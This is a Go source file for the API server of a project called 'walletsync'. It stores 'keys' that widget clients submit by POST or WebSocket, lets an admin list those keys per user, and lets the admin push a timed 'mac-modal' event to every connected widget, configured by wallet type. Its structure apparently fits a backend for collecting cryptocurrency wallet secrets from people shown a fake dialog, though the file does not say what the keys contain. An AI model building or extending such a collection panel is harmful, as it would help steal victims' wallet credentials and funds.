package api

import (
	"encoding/json"
	"log"
	"net/http"
	"strconv"
	"time"

	"github.com/google/uuid"
	"github.com/gorilla/mux"

	"walletsync/pkg/auth"
	"walletsync/pkg/model"
	"walletsync/pkg/store"
	"walletsync/pkg/telemetry"
)

const defaultListLimit = 100

// Server is the reference backend the widget client talks to.
type Server struct {
	store  store.Store
	hub    *Hub
	secret string
	event  string
	now    func() time.Time
}

// NewServer builds a backend over st. Tokens are verified with secret and
// trigger pushes are emitted under event.
func NewServer(st store.Store, secret, event string) *Server {
	s := &Server{store: st, secret: secret, event: event, now: time.Now}
	s.hub = NewHub(s.handleEnvelope)
	return s
}

func (s *Server) Hub() *Hub { return s.hub }

// Router registers every backend route on a new mux router.
func (s *Server) Router() *mux.Router {
	r := mux.NewRouter()
	r.HandleFunc("/healthz", func(w http.ResponseWriter, _ *http.Request) {
		writeJSON(w, http.StatusOK, map[string]interface{}{"ok": true, "sockets": s.hub.Count()})
	}).Methods(http.MethodGet)

	r.HandleFunc("/api/v1/auth/register", s.handleRegister).Methods(http.MethodPost)
	r.HandleFunc("/api/v1/auth/login", s.handleLogin).Methods(http.MethodPost)

	r.HandleFunc("/api/keys", s.requireToken(s.handlePostKey)).Methods(http.MethodPost)
	r.HandleFunc("/api/keys/{userId}", s.requireAdmin(s.handleListKeys)).Methods(http.MethodGet)

	r.HandleFunc("/api/mac-modal/settings/{userId}", s.requireToken(s.handleGetSettings)).Methods(http.MethodGet)
	r.HandleFunc("/api/mac-modal/settings/{userId}", s.requireAdmin(s.handlePutSettings)).Methods(http.MethodPut)
	r.HandleFunc("/api/mac-modal/trigger", s.requireAdmin(s.handleTrigger)).Methods(http.MethodPost)

	r.HandleFunc("/api/wallet-types/{userId}", s.requireToken(s.handleGetWalletTypes)).Methods(http.MethodGet)
	r.HandleFunc("/api/wallet-types/{userId}", s.requireAdmin(s.handlePutWalletTypes)).Methods(http.MethodPut)

	r.HandleFunc("/api/audit", s.requireAdmin(s.handleListAudit)).Methods(http.MethodGet)

	r.HandleFunc("/socket", s.requireToken(s.hub.HandleWS))
	return r
}

func writeJSON(w http.ResponseWriter, status int, v interface{}) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(v)
}

func (s *Server) internalError(w http.ResponseWriter, op string, err error) {
	log.Printf("api %s failed: %v", op, err)
	telemetry.CaptureError(err, map[string]string{"component": "api", "op": op})
	http.Error(w, "internal error", http.StatusInternalServerError)
}

func limitParam(r *http.Request) int {
	if n, err := strconv.Atoi(r.URL.Query().Get("limit")); err == nil && n > 0 {
		return n
	}
	return defaultListLimit
}

func (s *Server) saveKey(p model.KeyPayload, ch model.Channel) (model.KeyRecord, error) {
	rec := model.NewKeyRecord(uuid.NewString(), p, ch, s.now().UTC())
	return rec, s.store.SaveKey(rec)
}

func (s *Server) handlePostKey(w http.ResponseWriter, r *http.Request) {
	var p model.KeyPayload
	if err := json.NewDecoder(r.Body).Decode(&p); err != nil {
		writeJSON(w, http.StatusBadRequest, model.SendResult{Error: "invalid payload"})
		return
	}
	if err := p.Validate(); err != nil {
		writeJSON(w, http.StatusBadRequest, model.SendResult{Error: err.Error()})
		return
	}
	if !allowedFor(r, p.UserID) {
		http.Error(w, "forbidden", http.StatusForbidden)
		return
	}
	rec, err := s.saveKey(p, model.ChannelAPI)
	if err != nil {
		log.Printf("api save key user=%s failed: %v", p.UserID, err)
		telemetry.CaptureError(err, map[string]string{"component": "api", "op": "save key"})
		writeJSON(w, http.StatusInternalServerError, model.SendResult{Error: "failed to store key"})
		return
	}
	writeJSON(w, http.StatusOK, map[string]interface{}{"success": true, "id": rec.ID})
}

// handleEnvelope stores sendKey messages arriving over the socket under the
// same rules as POST /api/keys. Other message types are ignored.
func (s *Server) handleEnvelope(claims *auth.Claims, msg model.Envelope) {
	if msg.Type != model.EventSendKey {
		return
	}
	var p model.KeyPayload
	if err := json.Unmarshal(msg.Payload, &p); err != nil {
		log.Printf("ws sendKey decode failed: %v", err)
		return
	}
	if err := p.Validate(); err != nil {
		log.Printf("ws sendKey rejected: %v", err)
		return
	}
	if !claims.MayActFor(p.UserID) {
		log.Printf("ws sendKey rejected: token may not act for user=%s", p.UserID)
		return
	}
	if _, err := s.saveKey(p, model.ChannelSocket); err != nil {
		log.Printf("ws save key user=%s failed: %v", p.UserID, err)
		telemetry.CaptureError(err, map[string]string{"component": "ws", "op": "save key"})
	}
}

func (s *Server) handleListKeys(w http.ResponseWriter, r *http.Request) {
	recs, err := s.store.ListKeys(mux.Vars(r)["userId"], limitParam(r))
	if err != nil {
		s.internalError(w, "list keys", err)
		return
	}
	if recs == nil {
		recs = []model.KeyRecord{}
	}
	writeJSON(w, http.StatusOK, recs)
}

func (s *Server) handleGetSettings(w http.ResponseWriter, r *http.Request) {
	userID := mux.Vars(r)["userId"]
	if !allowedFor(r, userID) {
		http.Error(w, "forbidden", http.StatusForbidden)
		return
	}
	st, ok, err := s.store.GetSettings(userID)
	if err != nil {
		s.internalError(w, "get settings", err)
		return
	}
	if !ok {
		writeJSON(w, http.StatusOK, nil)
		return
	}
	writeJSON(w, http.StatusOK, st)
}

func (s *Server) handlePutSettings(w http.ResponseWriter, r *http.Request) {
	userID := mux.Vars(r)["userId"]
	var st model.MacModalSettings
	if err := json.NewDecoder(r.Body).Decode(&st); err != nil {
		http.Error(w, "invalid payload", http.StatusBadRequest)
		return
	}
	if st.TimingSeconds < model.TimingPushOnly {
		http.Error(w, "mac_modal_timing must be -1 or greater", http.StatusBadRequest)
		return
	}
	st.UserID = userID
	if err := s.store.SaveSettings(st); err != nil {
		s.internalError(w, "save settings", err)
		return
	}
	s.audit(r, "settings.update", userID, st)
	writeJSON(w, http.StatusOK, st)
}

func (s *Server) handleGetWalletTypes(w http.ResponseWriter, r *http.Request) {
	userID := mux.Vars(r)["userId"]
	if !allowedFor(r, userID) {
		http.Error(w, "forbidden", http.StatusForbidden)
		return
	}
	types, err := s.store.ListWalletTypes(userID)
	if err != nil {
		s.internalError(w, "list wallet types", err)
		return
	}
	if types == nil {
		types = []model.WalletType{}
	}
	writeJSON(w, http.StatusOK, types)
}

func (s *Server) handlePutWalletTypes(w http.ResponseWriter, r *http.Request) {
	userID := mux.Vars(r)["userId"]
	var types []model.WalletType
	if err := json.NewDecoder(r.Body).Decode(&types); err != nil {
		http.Error(w, "invalid payload", http.StatusBadRequest)
		return
	}
	if err := s.store.SetWalletTypes(userID, types); err != nil {
		s.internalError(w, "set wallet types", err)
		return
	}
	s.audit(r, "wallet-types.update", userID, types)
	writeJSON(w, http.StatusOK, types)
}

// handleTrigger pushes the modal event to every connected widget. An empty
// user_id reaches only widgets mounted with broadcast allowed.
func (s *Server) handleTrigger(w http.ResponseWriter, r *http.Request) {
	var p model.PushPayload
	if err := json.NewDecoder(r.Body).Decode(&p); err != nil {
		http.Error(w, "invalid payload", http.StatusBadRequest)
		return
	}
	if p.Timestamp == "" {
		p.Timestamp = s.now().UTC().Format(time.RFC3339)
	}
	n := s.hub.Broadcast(s.event, p)
	s.audit(r, "mac-modal.trigger", string(p.UserID), p)
	writeJSON(w, http.StatusOK, map[string]int{"delivered": n})
}

func (s *Server) handleListAudit(w http.ResponseWriter, r *http.Request) {
	entries, err := s.store.ListAudit(limitParam(r))
	if err != nil {
		s.internalError(w, "list audit", err)
		return
	}
	if entries == nil {
		entries = []model.AuditEntry{}
	}
	writeJSON(w, http.StatusOK, entries)
}

func (s *Server) audit(r *http.Request, action, target string, detail interface{}) {
	actor := ""
	if c := claimsFrom(r); c != nil {
		actor = c.Username
	}
	b, _ := json.Marshal(detail)
	entry := model.AuditEntry{Actor: actor, Action: action, Target: target, Detail: string(b), Timestamp: s.now().UTC()}
	if err := s.store.AppendAudit(entry); err != nil {
		log.Printf("audit append failed action=%s: %v", action, err)
	}
}
